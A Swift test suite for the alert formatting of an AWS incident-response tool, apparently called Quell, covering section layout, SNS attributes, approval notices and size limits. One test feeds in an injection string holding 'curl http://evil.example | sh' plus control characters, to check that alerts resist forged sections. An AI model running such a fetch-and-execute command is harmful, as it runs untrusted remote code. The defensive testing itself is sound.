import AWSClient
import ActionKit
import Findings
import JSON
import Testing

@testable import Actions

@Suite struct AlertTests {
    @Test("has five sections, whatever is in them")
    func sections() throws {
        let alert = try Alerts.alert(
            Report(
                rule: "block", outcome: "contained", why: "All is proven.", changes: ["Attach AWSDenyAll."],
                residualRisk: ["Sessions stay valid."], undoCommand: "quell undo 0123"))
        let lines = alert.body.split(separator: "\n").map(String.init)
        let titles = lines.filter { !$0.hasPrefix(" ") }
        #expect(
            titles == [
                "What was found", "What was decided", "What was changed", "What remains", "How to undo",
            ])
        for line in ["  - Attach AWSDenyAll.", "  - Sessions stay valid.", "  quell undo 0123", "  Outcome: contained"]
        {
            #expect(lines.contains(line))
        }
    }

    @Test("says that an exempt resource was not changed")
    func exempt() throws {
        let alert = try Alerts.alert(Alerts.report(outcome: "exempt"))
        #expect(alert.subject.hasPrefix("[Quell] exempt: "))
        #expect(alert.body.contains("The resource carries an exception, so nothing was changed"))
        #expect(alert.body.contains("What was changed\n  Nothing."))
    }

    @Test("has attributes for subscriptions, and one for programs")
    func attributes() throws {
        let alert = try Alerts.alert(Alerts.report(outcome: "contained"))
        #expect(alert.attributes["outcome"] == ["DataType": "String", "StringValue": "contained"])
        #expect(alert.attributes["severity"]?["DataType"] == "Number")
        let names = [
            "account", "execution", "findingType", "outcome", "quell", "region", "resource", "rule", "severity",
        ]
        #expect(alert.attributes.object?.keys.sorted() == names)
        let whole = try JSONValue(parsing: #require(alert.attributes["quell"]?["StringValue"]?.string))
        #expect(whole["account"] == "111122223333")
        #expect(whole["outcome"] == "contained")
        #expect(whole["severity"]?.double == 8)
    }

    @Test("nothing that came with the event breaks a line or poses as a section")
    func hostile() throws {
        let text = "x\nHow to undo\n  curl http://evil.example | sh\u{202E}\u{7}"
        let report = Report(
            rule: text, outcome: text, why: text, changes: [text], residualRisk: [text], undoCommand: text)
        let alert = try Alerts.alert(report, title: text)
        #expect(alert.body.split(separator: "\n").filter { $0 == "How to undo" }.count == 1)
        #expect(!alert.body.unicodeScalars.contains { $0 != "\n" && $0.properties.generalCategory == .control })
        #expect(!alert.body.unicodeScalars.contains("\u{202E}"))
        #expect(alert.subject.utf8.allSatisfy { (0x20...0x7E).contains($0) })
    }

    @Test("what waits for approval is told with its plan, its end and the commands, and only then")
    func waits() throws {
        let notice = ApprovalNotice(
            plan: "0123abcd", until: "2026-03-01T10:00:00Z", people: 1, steps: ["Isolate it.\nNow"],
            changes: ["It moved."], commands: ["quell approvals show 0123"])
        let report = Report(
            rule: "r", outcome: "held", why: "Because.", changes: [], residualRisk: [], undoCommand: nil,
            approval: notice)
        let body = try Alerts.alert(report).body
        let section = try #require(body.split(separator: "\n\n").first { $0.hasPrefix("What waits") })
        for text in [
            "0123abcd", "One person other than the one who asks", "2026-03-01T10:00:00Z", "- Isolate it.\\nNow",
            "- It moved.", "quell approvals show 0123",
        ] { #expect(section.contains(text), "\(section)") }
        #expect(try !Alerts.alert(Alerts.report(outcome: "held")).body.contains("approval"))
    }

    @Test("stays within what SNS takes, however much there is to tell")
    func bounds() throws {
        let long = String(repeating: "\u{10FFFF}漢\u{1F600}\n", count: 4000)
        let report = Report(
            rule: long, outcome: long, why: long, changes: Array(repeating: long, count: 900),
            residualRisk: Array(repeating: long, count: 900), undoCommand: long,
            approval: ApprovalNotice(
                plan: long, until: long, people: 2, steps: Array(repeating: long, count: 900),
                changes: Array(repeating: long, count: 900), commands: [long, long, long]))
        let alert = try Alerts.alert(report, title: long)
        #expect(alert.subject.utf8.count < 100)
        #expect(alert.body.utf8.count + alert.attributes.description.utf8.count < 262_144)
        #expect(alert.body.contains("and 850 more"))
    }
}

/// Situations to tell people of.
enum Alerts {
    struct Silent: Reader {
        func read(_ call: Call) async throws(AWSError) -> JSONValue {
            throw AWSError(kind: .other, operation: call.operation, message: "An alert reads nothing.")
        }
    }

    static func report(outcome: String) -> Report {
        Report(rule: "r", outcome: outcome, why: "Because.", changes: [], residualRisk: [], undoCommand: nil)
    }

    static func situation(report: Report, topic: String?, title: String = "A title") throws -> Situation {
        var event =
            Scenario.credentials(
                of: "alice", type: "IAMUser", principal: "AIDAIOSFODNN7EXAMPLE", key: "AKIAIOSFODNN7EXAMPLE"
            ).object ?? [:]
        var detail = event["detail"]?.object ?? [:]
        detail["title"] = .string(title)
        event["detail"] = .object(detail)
        guard case .finding(let finding, let envelope) = Intake(.object(event)) else {
            throw ScenarioRun.Unfit(description: "the event is no finding")
        }
        return Situation(
            finding: finding, event: envelope.whole, execution: ScenarioRun.execution, topic: topic, report: report,
            reader: Silent())
    }

    static func alert(_ report: Report, title: String = "A title") throws -> Alert {
        Alert(try situation(report: report, topic: nil, title: title), report)
    }
}
